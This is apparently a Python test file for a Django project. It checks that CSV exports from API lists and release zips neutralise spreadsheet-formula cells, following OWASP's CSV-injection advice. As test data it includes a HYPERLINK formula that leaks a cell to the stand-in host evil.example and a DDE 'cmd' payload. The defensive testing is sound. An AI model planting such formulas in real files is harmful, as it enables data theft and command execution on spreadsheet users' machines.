"""CSV cells that a spreadsheet would run as a formula are defused (OWASP's
CSV injection advice), in live CSV and in release zips; numbers stay
numbers."""

import csv
import io
import zipfile
from io import StringIO

import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from diseases.models import Disease
from kbframework.api.renderers import FORMULA_START, defuse, rows_to_csv
from kbframework.choices import Status
from kbframework.models import Citation, Release
from kbframework.registry import registry

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@given(st.text(max_size=30))
def test_no_cell_starts_a_formula_and_the_text_is_kept(text):
    cell = defuse(text)
    if cell.startswith(FORMULA_START):
        float(cell)  # only a number may start with a sign
    assert cell in (text, "'" + text)


@pytest.mark.parametrize("number", ["-1.5", "+2", "-0.25", "1e-3", "-7", "12"])
def test_numbers_are_not_touched(number):
    assert defuse(number) == number
    assert cells(rows_to_csv([{"value": number}], "1"))[2] == number


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_defused(start):
    text = f"{start}cmd|' /C calc'!A0"
    assert cells(rows_to_csv([{"name": text}], "1"))[2] == "'" + text


@pytest.fixture
def hostile_disease(kb):
    disease = Disease.objects.create(
        slug="hostile-name",
        name=HOSTILE,
        summary="-2+3 a summary that looks like arithmetic.",
        status=Status.PUBLISHED,
    )
    disease.citations.add(Citation.objects.first())
    return disease


@pytest.mark.django_db
def test_live_csv_of_every_api_list_is_defused(hostile_disease):
    """Every API list's CSV: no cell starts a formula unless it is a number."""
    seen_hostile = False
    for resource in registry.api_resources():
        response = Client().get(f"/api/v1/{resource.api_prefix}/?format=csv")
        assert response.status_code == 200, resource.api_prefix
        for cell in cells(response.content.decode()):
            if cell.startswith(FORMULA_START):
                float(cell)
            seen_hostile |= cell == "'" + HOSTILE
    assert seen_hostile, "the hostile name was in a live CSV"


@pytest.mark.django_db
def test_release_zips_are_defused(hostile_disease):
    call_command("cutrelease", note="csv check", stdout=StringIO())
    release = Release.objects.order_by("-number").first()
    with zipfile.ZipFile(io.BytesIO(bytes(release.csv_zip))) as files:
        found = []
        for name in files.namelist():
            if not name.endswith(".csv"):
                continue
            for cell in cells(files.read(name).decode()):
                if cell.startswith(FORMULA_START):
                    float(cell)
                found.append(cell)
    assert "'" + HOSTILE in found
